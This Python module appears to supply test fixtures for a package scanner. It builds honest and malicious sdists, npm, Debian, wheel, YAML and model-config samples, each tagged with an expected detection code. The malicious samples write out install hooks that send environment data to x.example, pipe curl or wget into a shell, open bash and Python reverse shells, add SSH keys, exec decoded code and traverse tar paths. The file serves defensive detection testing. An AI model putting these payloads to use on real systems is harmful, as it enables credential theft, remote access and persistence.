"""Packages of every ecosystem, honest ones and ones that act when they are installed.

The payloads are text that nobody runs; addresses are of reserved names.
"""

import io
import json
import lzma
import tarfile

import zstandard

from corpora import inspection_content as make
from corpora.inspection_case import WHEEL, bad, good
from lockgate.core.verdict import Outcome

SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0')\n"


def sdist(setup: str = SETUP, extra=None) -> bytes:
    members = {
        "demo-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n",
        "demo-1.0/setup.py": setup.encode(),
        "demo-1.0/pyproject.toml": b"[build-system]\nbuild-backend = 'setuptools.build_meta'\n",
        "demo-1.0/demo/__init__.py": b"x = 1\n",
        **(extra or {}),
    }
    return make.gzipped(make.tar(members))


def npm(extra=None, **manifest) -> bytes:
    said = {"name": "demo", "version": "1.0.0", **manifest}
    members = {"package/package.json": json.dumps(said).encode(), "package/index.js": b"module.exports = 1\n"}
    return make.gzipped(make.tar(members | (extra or {})))


def hooked(command: str, extra=None, hook: str = "postinstall") -> bytes:
    return npm(extra, scripts={hook: command})


def _ar(members) -> bytes:
    out = b"!<arch>\n"
    for name, data in members.items():
        out += f"{name:<16}{0:<12}{0:<6}{0:<6}{'100644':<8}{len(data):<10}`\n".encode() + data
        out += b"\n" * (len(data) & 1)
    return out


def deb(*, postinst: str = "", data=None, pack=None, form: str = "xz") -> bytes:
    packers = {"xz": lzma.compress, "gz": make.gzipped, "zst": zstandard.compress}
    pack = pack or packers[form]
    control = {"./control": b"Package: demo\nVersion: 1.0\nArchitecture: all\n", "./md5sums": b""}
    if postinst:
        control["./postinst"] = f"#!/bin/sh\nset -e\n{postinst}\n".encode()
    files = {"./usr/share/doc/demo/copyright": b"Public domain.\n"} if data is None else data
    return _ar({
        "debian-binary": b"2.0\n",
        f"control.tar.{form}": pack(make.tar(control)),
        f"data.tar.{form}": pack(make.tar(files)),
    })  # fmt: skip


def linked(*pairs) -> bytes:
    """Links and files in the order given: (name, target or None, bytes)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, target, data in pairs:
            info = tarfile.TarInfo(name)
            if target is not None:
                info.type, info.linkname = tarfile.SYMTYPE, target
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


_SEND = "import os, urllib.request\nurllib.request.urlopen('https://x.example/?' + str(dict(os.environ)))\n"
_DECODED = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
_SHELL_BACK = (
    "import socket, os\ns = socket.socket()\ns.connect(('x.example', 1))\n"
    "os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\n"
)
_OS_FACTS = (
    "const os = require('os');\nrequire('https').request({host: 'x.example'})"
    ".end(JSON.stringify([os.hostname(), os.userInfo()]))\n"
)
_GARBLED = "".join(f"var _0x{n:04x}=_0x{n + 7:04x}('0x{n:x}');" for n in range(4096, 4120)).encode()


def _sdists():
    for title, setup, code in (
        ("sends the environment", _SEND + SETUP, "install-network"),
        ("runs decoded code", _DECODED + SETUP, "python-decoded-code"),
        (
            "runs code that it decompresses",
            "exec(__import__('zlib').decompress(b''))\n" + SETUP,
            "python-decoded-code",
        ),
        (
            "runs code it fetched",
            "import requests\nexec(requests.get('https://x.example').text)\n",
            "python-decoded-code",
        ),
        ("calls back", _SHELL_BACK + SETUP, "python-reverse-shell"),
        (
            "fetches with curl",
            "import os\nos.system('curl https://x.example/a | sh')\n" + SETUP,
            "install-network",
        ),
        (
            "starts a hidden shell",
            "import os\nos.system('powershell -WindowStyle Hidden x')\n",
            "code-hidden-shell",
        ),
        (
            "collects by a web hook",
            "U = 'discord.com/api/webhooks/1/x'\n" + SETUP,
            "code-exfiltration",
        ),
        ("pushes code aside", "x = 1" + " " * 200 + "; import os\n" + SETUP, "code-pushed-aside"),
        ("reads browsers' keys", "import win32crypt\nwin32crypt.CryptUnprotectData(b'')\n", "code-stealer"),
        ("joins characters to code", "exec(''.join(map(chr, [112])))\n", "python-decoded-code"),
        ("unmarshals code", "import marshal\nexec(marshal.loads(b''))\n", "python-decoded-code"),
        (
            "opens a socket",
            "import socket\nsocket.create_connection(('x.example', 1))\n" + SETUP,
            "install-network",
        ),
    ):
        yield bad(f"a source package that {title}", "demo-1.0.tar.gz", sdist(setup), code)


def _npms():
    for title, data, code in (
        ("fetches and runs", hooked("curl https://x.example/i.sh | sh"), "shell-download"),
        ("runs code in the command", hooked("node -e \"require('http')\""), "npm-inline-script"),
        ("sends facts", hooked("node setup.js", {"package/setup.js": _OS_FACTS.encode()}), "install-network"),
        (
            "sends facts before",
            hooked("node ./lib/a", {"package/lib/a.js": _OS_FACTS.encode()}, "preinstall"),
            "install-network",
        ),
        ("is garbled", npm({"package/a.js": _GARBLED}), "js-obfuscated"),
        (
            "evaluates decoded code",
            npm({"package/a.js": b"eval(Buffer.from('eA==','base64').toString())"}),
            "js-decoded-code",
        ),
        ("brings a command named node", npm(bin={"node": "index.js"}), "command-shadowed"),
        (
            "depends on an address",
            npm(dependencies={"a": "http://x.example/a.tgz"}),
            "npm-address-dependency",
        ),
        (
            "runs commands in binding.gyp",
            npm({"package/binding.gyp": b"{'a': '<!(curl https://x.example|sh)'}"}),
            "shell-download",
        ),
        (
            "has any command in binding.gyp",
            npm({"package/binding.gyp": b"{'a': '<!(./run.sh)'}"}),
            "npm-gyp-command",
        ),
        ("starts a shell", hooked("sh ./install.sh"), "npm-shell-script"),
        ("calls back", hooked("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"), "shell-reverse"),
        ("decodes a script", hooked("echo eA== | base64 -d | bash"), "shell-decoded"),
        ("has a manifest that breaks off", npm({"package/package.json": b"{"}), "npm-manifest"),
    ):
        yield bad(f"an npm package that {title}", "demo-1.0.0.tgz", data, code)


def _debs():
    for title, data, code in (
        ("fetches and runs", deb(postinst="wget -qO- https://x.example/a | bash"), "shell-download"),
        ("fetches", deb(postinst="curl -s https://x.example/a -o /usr/bin/a"), "install-network"),
        ("makes itself stay", deb(postinst="echo key >> ~/.ssh/authorized_keys"), "install-persistence"),
        ("calls back", deb(postinst="bash -i >& /dev/tcp/10.0.0.1/1 0>&1", form="zst"), "shell-reverse"),
        (
            "has an own set-id program",
            deb(data={"x": make.tar_entry("./usr/bin/x", b"0", "", 0o4755)}),
            "tar-setuid",
        ),
        ("has a device", deb(data={"x": make.tar_entry("./dev/x", tarfile.CHRTYPE)}), "tar-device"),
        ("climbs", deb(data={"./../../etc/x": b"x"}, form="gz"), "tar-slip"),
    ):
        yield bad(f"a Debian package that {title}", "demo_1.0_all.deb", data, code)


PACKAGES_BAD = [
    *_sdists(),
    *_npms(),
    *_debs(),
    bad(
        "a wheel that acts on import",
        WHEEL,
        make.wheel({"lock_demo/a.py": _SEND.encode()}),
        "python-import-network",
    ),
    bad(
        "a wheel that runs decoded code",
        WHEEL,
        make.wheel({"lock_demo/a.py": _DECODED.encode()}),
        "python-decoded-code",
    ),
    bad(
        "a wheel with a shell on import",
        WHEEL,
        make.wheel({"lock_demo/a.py": b"import os\nos.system('id')\n"}),
        "python-import-command",
    ),
    bad(
        "a member behind a link", "a.tar", linked(("d", "/srv", b""), ("d/x", None, b"x")), "tar-through-link"
    ),
    bad(
        "a script that fetches and runs",
        "install.sh",
        b"#!/bin/sh\ncurl -s https://x.example | sh\n",
        "shell-download",
    ),
    bad(
        "YAML that makes objects", "a.yaml", b"a: !!python/object/apply:os.system ['id']\n", "yaml-python-tag"
    ),
    bad(
        "YAML with the long form of a tag",
        "a.yml",
        b"a: !<tag:yaml.org,2002:python/object/new:os.system> [x]\n",
        "yaml-python-tag",
    ),
    bad(
        "NeMo that calls anything",
        "m.nemo",
        make.tar({"model_config.yaml": b"a:\n  _target_: os.system\n"}),
        "yaml-target",
    ),
    bad(
        "NeMo with a key in escapes",
        "m.nemo",
        make.tar({"./model_config.yaml": b'"\\x5ftarget_": os.system\n'}),
        "yaml-escaped-key",
    ),
    bad(
        "code of the repository",
        "config.json",
        b'{"auto_map": {"AutoModel": "modeling_x.XModel"}}',
        "model-custom-code",
        "model",
    ),
    bad(
        "trust in remote code",
        "tokenizer_config.json",
        b'{"trust_remote_code": true}',
        "model-custom-code",
        "model",
    ),
    bad(
        "a template in the tokenizer",
        "tokenizer_config.json",
        b'{"chat_template": "{{ x.__class__ }}"}',
        "chat-template-internals",
        "model",
    ),
    bad(
        "a template of its own file",
        "chat_template.jinja",
        b"{{ ''.__class__.__mro__ }}",
        "chat-template-internals",
        "model",
    ),
    bad(
        "Keras with a Lambda",
        "m.keras",
        make.zipped({"config.json": b'{"class_name": "Lambda", "config": {}}'}),
        "keras-code",
        "model",
    ),
    bad(
        "Keras with another module",
        "m.keras",
        make.zipped({"config.json": b'{"class_name": "X", "module": "os"}'}),
        "keras-module",
        "model",
    ),
    bad(
        "Keras that fetches",
        "m.keras",
        make.zipped(
            {"config.json": b'{"class_name": "function", "module": "keras.utils", "config": "get_file"}'}
        ),
        "keras-function",
        "model",
    ),
    bad(
        "Keras that reads a file",
        "m.keras",
        make.zipped(
            {"config.json": b'{"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}'}
        ),
        "keras-file",
        "model",
    ),
    bad(
        "Keras with a wrapped pickle",
        "m.keras",
        make.zipped({"config.json": b'{"class_name": "TorchModuleWrapper", "config": {}}'}),
        "keras-code",
        "model",
    ),
]

_HONEST_NPM = {
    "package/binding.gyp": b"{'targets': [{'include_dirs': ['<!(node -p \"require(\\'x\\').include\")']}]}",
    "package/lib/a.js": b"const os = require('os');\nmodule.exports = () => os.EOL;\n",
}

PACKAGES_GOOD = [
    good("a source package", "demo-1.0.tar.gz", sdist(), detected="gzip"),
    good(
        "a source package that compiles",
        "demo-1.0.tar.gz",
        sdist(
            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'cython', 'a.pyx'])\n"
            + SETUP
        ),
    ),
    good("an npm package", "demo-1.0.0.tgz", npm(), detected="gzip"),
    good(
        "an npm package that is built",
        "demo-1.0.0.tgz",
        npm(_HONEST_NPM, scripts={"install": "node-gyp rebuild"}),
    ),
    good(
        "an npm package with a script",
        "demo-1.0.0.tgz",
        hooked("node x.js", {"package/x.js": b"console.log('thanks')\n"}),
    ),
    good(
        "an npm package with commands",
        "demo-1.0.0.tgz",
        npm(bin={"demo": "index.js"}, dependencies={"a": "^1.0.0"}),
    ),
    *(
        good(f"a Debian package in {form}", "demo_1.0_all.deb", deb(form=form), detected="deb")
        for form in ("xz", "gz", "zst")
    ),
    good("a Debian package with a script", "demo_1.0_all.deb", deb(postinst="ldconfig || true\n#DEBHELPER#")),
    good(
        "a Debian package with links",
        "demo_1.0_all.deb",
        deb(data={"x": make.tar_entry("./usr/bin/x", tarfile.SYMTYPE, "/usr/bin/y")}),
    ),
    good(
        "a Debian package with code",
        "demo_1.0_amd64.deb",
        deb(data={"./usr/bin/x": make.elf()}),
        outcome=Outcome.OPAQUE,
    ),
    good(
        "a Debian package with su",
        "demo_1.0_all.deb",
        deb(data={"x": make.tar_entry("./usr/bin/su", b"0", "", 0o4755)}),
    ),
    good("links inside an archive", "a.tar", linked(("bin/x", "../lib/x", b""), ("lib/x", None, b"x"))),
    good(
        "a NeMo configuration",
        "m.nemo",
        make.tar({"model_config.yaml": b"_target_: nemo.collections.asr.models.EncDecCTCModel\n"}),
    ),
    good(
        "a model's configuration",
        "config.json",
        b'{"architectures": ["LlamaForCausalLM"], "hidden_size": 8}',
        "model",
    ),
    good(
        "a tokenizer's configuration",
        "tokenizer_config.json",
        b'{"chat_template": "{{ messages[0].content }}"}',
        "model",
    ),
    good(
        "a Keras configuration",
        "m.keras",
        make.zipped(
            {"config.json": b'{"class_name": "Dense", "module": "keras.layers", "config": {"units": 3}}'}
        ),
        "model",
    ),
    good("a shell script", "build.sh", b"#!/bin/sh\nset -e\nmake all\n"),
    good("YAML", "a.yaml", b"a: 1\nb: [1, 2]\n"),
]
